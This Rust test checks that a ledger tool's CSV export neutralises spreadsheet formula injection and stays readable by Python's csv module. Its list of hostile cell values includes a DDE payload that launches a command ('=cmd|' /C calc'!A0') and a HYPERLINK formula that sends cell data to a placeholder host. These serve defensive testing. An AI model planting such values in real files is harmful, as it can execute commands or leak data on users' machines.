//! Cells: read back by programs of others, and harmless in a spreadsheet.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};

use super::{call, of, rows, table};

/// Texts that would harm somebody, or break the table.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "=cmd|' /C calc'!A0",
    "a,b",
    "a\"b",
    "\"",
    "\"\"",
    "\",\"",
    "a\r\nb",
    "a\nb",
    "\u{1b}[2J",
    "\u{202e}cba",
    "\u{feff}=1",
    "\0",
    "'",
    "",
    " ",
    "ä€😀",
    "#",
    "a;b",
    "\\u001b",
];

#[test]
fn cells_are_read_back_by_others_and_are_no_formulas() {
    let entries: Vec<_> = (0..)
        .zip(HOSTILE)
        .map(|(seq, text)| {
            let fields = json!({
                "reason": text, "tags": [text], "metadata": { "team": text }, "subject": text,
                "toolInput": { "url": text, "payTo": text }, "toolName": text, "value": 1_500_000,
            });
            call(seq, "builder", "deny", fields)
        })
        .collect();
    let store = of(&entries);
    store.ledger(&["export", "--csv", "-o", "all.csv"]).ok();
    let text = fs::read_to_string(store.path("all.csv")).unwrap();
    let ours = table(&text);
    assert_eq!(ours.len(), HOSTILE.len() + 1);
    assert_eq!(text.matches("\r\n").count(), ours.len(), "one line for each row");
    assert!(text.ends_with("\r\n") && !text.replace("\r\n", "").contains(['\r', '\n', '\0', '\u{1b}']));

    let python = "import csv,json,sys\n\
        with open(sys.argv[1], newline='', encoding='utf-8') as f:\n\
        \x20   print(json.dumps(list(csv.reader(f, strict=True))))";
    let run = Command::new("python3").args(["-c", python]).arg(store.path("all.csv")).output();
    let run = run.expect("python3 is needed: install it with `apt-get install python3`");
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    let theirs: Vec<Vec<String>> = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(theirs, ours);

    let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    for (row, text) in rows(&text).iter().zip(HOSTILE.iter().rev()) {
        for (name, cell) in row {
            assert!(!cell.starts_with(starts), "{name}: {cell:?}");
        }
        for name in ["reason", "team", "subject", "endpoint", "payee_address", "tool_name", "tags"] {
            let cell = &row[name];
            assert_eq!(cell.starts_with('\''), text.starts_with(starts) || *text == "'", "{name}: {cell:?}");
            if !text.starts_with(starts)
                && !text.chars().any(|c| c.is_control() || c == '\u{202e}' || c == '\u{feff}')
            {
                assert_eq!(cell, text, "{name}");
            }
        }
        assert_eq!(row["amount"], "1.500000");
    }

    // Lines of JSON have the texts as they are.
    let lines = store.ledger(&["export", "--calls"]).ok().stdout;
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), HOSTILE.len());
    for (line, text) in lines.iter().zip(HOSTILE.iter().rev()) {
        assert_eq!((&line["reason"], &line["tool_input"]["url"]), (&json!(text), &json!(text)));
        assert_eq!((&line["tags"], &line["metadata"]), (&json!([text]), &json!({ "team": text })));
        assert_eq!((&line["amount"], &line["budget_remaining"]), (&json!("1.500000"), &Value::Null));
    }
}
